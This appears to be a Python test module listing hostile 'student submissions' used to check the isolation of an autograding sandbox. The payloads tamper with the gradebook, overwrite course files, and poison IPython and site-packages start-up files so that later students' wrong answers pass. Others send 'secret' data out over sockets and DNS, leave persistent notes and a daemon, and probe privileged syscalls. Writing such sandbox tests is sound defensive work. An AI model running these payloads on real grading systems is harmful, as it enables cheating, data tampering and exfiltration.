# ruff: noqa: E501  (students' code stands in one line where it is clearer so)
"""Submissions that write where they must not, or leave something for the next student, or reach out. Named.

`{course}` stands for the path of the course; `{tcp}`, `{udp}`, `{abstract}`, `{socket_file}` for sockets of this machine;
`{victim}` for a file of the course; `{key}`, `{note}` for names that two students agree on; `{daemon}` for a process's.
What gets through says so: it prints the word of `attack_target.GOT_THROUGH`, which stands nowhere in its text.
"""

from __future__ import annotations

from attack_target import SAYS_SO, WRONG, Attack
from hostile_stops import HIDE

CREDIT = """
import sqlite3, glob
for path in {"{course}/gradebook.db", *glob.glob("../../../gradebook.db"), *glob.glob("../../../../gradebook.db")}:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as book:
            book.execute("update grade set extra_credit = 100")
    except sqlite3.Error as error:
        print(type(error).__name__)
"""
"""nbgrader's own scores are computed anew, extra credit is not."""

EVERYWHERE = """
import os
for base, folders, names in os.walk("{course}"):
    for name in [*names, "extra-credit.txt"]:
        try:
            with open(os.path.join(base, name), "ab") as file:
                file.write(b" extra credit")
        except OSError as error:
            print(type(error).__name__)
for name in ("results.jsonl", "gradebook.db", "release/lesson/lesson.ipynb", "autograded/student-007/lesson/lesson.ipynb"):
    try:
        os.remove(os.path.join("{course}", name))
    except OSError as error:
        print(type(error).__name__)
"""

LINKS = """
import os
for number, name in enumerate(("gradebook.db", "source/lesson/lesson.ipynb", "submitted/student-007/lesson/lesson.ipynb")):
    for make in (os.symlink, os.link):
        here = f"{make.__name__}-{number}"
        try:
            make(os.path.join("{course}", name), here)
            with open(here, "ab") as file:
                file.write(b" extra credit")
        except OSError as error:
            print(type(error).__name__)
"""

STARTUP = """
import os, site, sys
spoil = "import numpy.testing as t\\nimport numpy as np\\nt.assert_allclose = lambda *a, **k: None\\nnp.allclose = lambda *a, **k: True\\nimport math\\nmath.isclose = lambda *a, **k: True\\n"
home = os.path.expanduser("~")
places = {
    home + "/.ipython/profile_default/startup/00-spoil.py": spoil,
    home + "/.ipython/profile_default/ipython_config.py": "c.InteractiveShellApp.exec_lines = ['import numpy']",
    site.getusersitepackages() + "/usercustomize.py": "import builtins\\nbuiltins.spoilt = 1\\n",
    site.getusersitepackages() + "/spoil.pth": "import builtins; builtins.spoilt = 1\\n",
    home + "/.config/matplotlib/matplotlibrc": "backend: nothing\\n",
    home + "/.cache/torch/hub/spoil.py": "1/0",
    home + "/.local/share/jupyter/kernels/python3/kernel.json": "{}" if False else "",
}
for path, text in places.items():
    if text:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write(text)
        except OSError as error:
            print(type(error).__name__)
"""

INSTALLED = """
import os, sys
for folder in [path for path in sys.path if path.endswith(("site-packages", "lib-dynload"))]:
    try:
        open(os.path.join(folder, "{note}.pth"), "w").write("")
        os.remove(os.path.join(folder, "{note}.pth"))
        {says_so}
    except OSError as error:
        print(type(error).__name__)
"""

SENDS = """
import socket
def attempt(family, kind, address):
    try:
        with socket.socket(family, kind) as out:
            out.settimeout(1)
            out.connect(address)
            out.send(b"secret")
            {says_so}
    except OSError as error:
        print(type(error).__name__)
"""

LEAVE = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget({key}, 4096, 0o1666)
if segment >= 0:
    ctypes.memmove(libc.shmat(segment, None, 0), b"a note", 7)
queue = libc.msgget({key}, 0o1666)
for place in ("/tmp", "/dev/shm", os.path.expanduser("~"), ".", "/var/tmp", "/run"):
    try:
        open(os.path.join(place, "{note}"), "w").write("a note")
    except OSError:
        pass
pid = os.fork()
if pid == 0:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\\0{note}")
    listener.listen()
    os.setsid()
    while True:
        listener.accept()
print("left", segment >= 0, queue >= 0, pid > 0)
"""

LOOK = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
found = []
segment, queue = libc.shmget({key}, 4096, 0), libc.msgget({key}, 0)
if segment >= 0 or queue >= 0:
    found.append("sysv")
    libc.shmctl(segment, 0, None), libc.msgctl(queue, 0, None)
for place in ("/tmp", "/dev/shm", os.path.expanduser("~"), ".", "/var/tmp", "/run"):
    if os.path.exists(os.path.join(place, "{note}")):
        found.append(place)
        os.remove(os.path.join(place, "{note}"))
try:
    socket.socket(socket.AF_UNIX).connect("\\0{note}")
    found.append("abstract socket")
except OSError:
    pass
print("found", found)
"""

KEYRING = """
import ctypes, os
libc = ctypes.CDLL(None)
number = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
print("key", libc.syscall(number, b"user", b"{note}", b"x", 1, -4))
"""

ALL = (
    Attack("gives itself extra credit", "a field of the gradebook that nothing overwrites", after=CREDIT),
    Attack("writes over the course", "results, ledger, release, others' marked work", after=EVERYWHERE),
    Attack("links to the course", "symbolic and hard links, opened for writing", after=LINKS),
    Attack("a daemon that writes later", "the gradebook, when marking is over", before=HIDE),
    Attack(
        "poisons start-up files",
        "IPython's start-up, user site, .pth, caches: the next student's wrong answers hold",
        after=STARTUP,
        then=Attack("wrong answers behind it", "points", {name: WRONG[name] for name in ("double", "solve")}),
    ),
    Attack(
        "writes into the installation", "a .pth in Python's own folders", after=INSTALLED.replace("{says_so}", SAYS_SO)
    ),
    Attack(
        "sends secrets away",
        "TCP and UDP to this machine's services",
        after=SENDS.replace("{says_so}", SAYS_SO)
        + 'attempt(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {tcp}))\nattempt(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {udp}))',
    ),
    Attack(
        "sends secrets past the network",
        "abstract and file Unix sockets",
        after=SENDS.replace("{says_so}", SAYS_SO)
        + 'attempt(socket.AF_UNIX, socket.SOCK_STREAM, "\\0{abstract}")\nattempt(socket.AF_UNIX, socket.SOCK_STREAM, "{socket_file}")',
    ),
    Attack(
        "asks the name server",
        "secrets as names that somebody looks up",
        after="import socket\nfor server in {line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')} | {'127.0.0.53'}:\n"
        "    try:\n        with socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM) as out:\n"
        "            out.connect((server, 53))\n"
        "            out.send(b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7invalid\\0\\0\\1\\0\\1')\n            "
        + SAYS_SO
        + "\n"
        "    except OSError as error:\n        print(type(error).__name__)",
    ),
    Attack(
        "leaves a note",
        "shared memory, queues, files, a listening daemon for the next student",
        after=LEAVE,
        then=Attack("looks for the note", "what the one before left", after=LOOK + f"if found:\n    {SAYS_SO}"),
    ),
    Attack(
        "leaves a key",
        "keyrings of the kernel belong to no namespace",
        after=KEYRING,
        then=Attack(
            "looks for the key",
            "what the one before left",
            after=f"if '{{note}}' in open('/proc/keys').read():\n    {SAYS_SO}",
        ),
    ),
    Attack(
        "keeps memory in memory files",
        "memory that no limit of a process counts",
        after="import os\nkept = 0\ntry:\n    for _ in range(6):\n        fd = os.memfd_create('x')\n"
        "        for _ in range(60):\n            kept += os.write(fd, bytes(1 << 20))\n"
        f"except (OSError, MemoryError, AttributeError):\n    pass\nif kept > 300 << 20:\n    {SAYS_SO}",
    ),
    Attack(
        "asks for more rights",
        "io_uring, userfaultfd, bpf, perf, keyctl, raw and netlink sockets",
        after="import ctypes, socket, platform\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "calls = {'x86_64': (425, 323, 321, 298, 250), 'aarch64': (425, 282, 280, 241, 219)}[platform.machine()]\n"
        "for number, words in zip(calls, ((8, bytes(120)), (1,), (0, bytes(72), 72), (bytes(128), 0, -1, -1, 0), (0, -4, 0))):\n"
        "    print(number, libc.syscall(number, *words) >= 0)\n"
        "for family, kind in ((socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):\n"
        "    try:\n        socket.socket(family, kind).close()\n        print(family, 'opened')\n"
        "    except OSError as error:\n        print(type(error).__name__)",
        real=False,
    ),
)
"""None of them answers a question wrong, but for the one who comes second."""
